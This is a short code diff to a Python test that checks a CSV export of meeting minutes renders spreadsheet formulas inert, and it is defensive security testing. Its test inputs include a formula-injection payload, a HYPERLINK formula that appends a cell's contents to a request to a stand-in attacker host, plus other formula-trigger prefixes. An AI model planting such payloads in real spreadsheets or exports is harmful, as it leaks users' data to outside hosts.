@@ -500,7 +500,7 @@ def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_made_inert(civil
     """issue 12 #8: a motion worded "=HYPERLINK(...)" must reach Excel as text, not as a formula."""
     minutes = minutes_for(civil278)
     texts = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "@SUM(1)", "-1+2", "\t=1", "普通议题"]
-    motions = [replace(m, text=text) for m, text in zip(minutes.motions, texts)]
+    motions = [replace(m, text=text) for m, text in zip(minutes.motions, texts, strict=False)]
     data = to_csv(replace(minutes, motions=motions), "zh_Hans")
     rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
     cells = [r["议题内容（最终表述）"] for r in rows if r["记录类型"] == "议题"]
